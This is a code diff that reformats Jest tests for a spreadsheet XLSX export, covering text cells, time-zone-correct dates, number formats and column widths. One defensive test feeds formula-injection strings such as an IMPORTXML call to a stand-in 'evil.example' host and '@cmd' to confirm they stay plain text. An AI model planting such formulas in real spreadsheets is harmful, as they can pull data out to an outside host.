@@ -4,12 +4,16 @@ import { exportXlsx } from './exportXlsx';
 import { type FakeSheet, fakeScript } from './fakeScript';
 
 function exported(...sheets: FakeSheet[]): XLSX.WorkBook {
-  return XLSX.read(exportXlsx(fakeScript({ sheets, zone: 'Asia/Almaty' })), { cellNF: true, cellFormula: true, cellStyles: true });
+  return XLSX.read(exportXlsx(fakeScript({ sheets, zone: 'Asia/Almaty' })), {
+    cellNF: true,
+    cellFormula: true,
+    cellStyles: true,
+  });
 }
 
 test('text that looks like a formula stays text', () => {
   const texts = ['=IMPORTXML("https://evil.example";"//a")', '+7 961 000-00-00', '-1', '@cmd', '007'];
-  const sheet = exported({ name: 'A', values: texts.map((text) => [text]) }).Sheets['A'];
+  const sheet = exported({ name: 'A', values: texts.map((text) => [text]) }).Sheets.A;
   texts.forEach((text, row) => {
     const cell = sheet?.[`A${row + 1}`];
     expect(cell).toMatchObject({ t: 's', v: text, z: '@' });
@@ -20,7 +24,7 @@ test('text that looks like a formula stays text', () => {
 test('a date is the day on the wall of the file, not of the machine', () => {
   // 2026-11-21T19:00Z is midnight of 22 November in Almaty (UTC+5); Excel counts it as day 46348.
   const values = [[{ date: Date.UTC(2026, 10, 21, 19) }]];
-  expect(exported({ name: 'A', values }).Sheets['A']?.['A1']).toMatchObject({ t: 'n', v: 46348, z: 'dd.mm.yyyy' });
+  expect(exported({ name: 'A', values }).Sheets.A?.A1).toMatchObject({ t: 'n', v: 46348, z: 'dd.mm.yyyy' });
 });
 
 test('numbers keep their format and columns their width', () => {
@@ -29,10 +33,10 @@ test('numbers keep their format and columns their width', () => {
     values: [[0.125, 1500, true]],
     formats: { '0,0': '0.0%', '0,1': '#,##0 "₽"' },
     view: { widths: { 1: 222 } },
-  }).Sheets['A'];
-  expect(sheet?.['A1']).toMatchObject({ t: 'n', v: 0.125, z: '0.0%' });
-  expect(sheet?.['B1']).toMatchObject({ t: 'n', v: 1500, z: '#,##0 "₽"' });
-  expect(sheet?.['C1']).toMatchObject({ t: 'b', v: true });
+  }).Sheets.A;
+  expect(sheet?.A1).toMatchObject({ t: 'n', v: 0.125, z: '0.0%' });
+  expect(sheet?.B1).toMatchObject({ t: 'n', v: 1500, z: '#,##0 "₽"' });
+  expect(sheet?.C1).toMatchObject({ t: 'b', v: true });
   expect(Math.abs((sheet?.['!cols']?.[1]?.wpx ?? 0) - 222)).toBeLessThanOrEqual(1);
 });
 
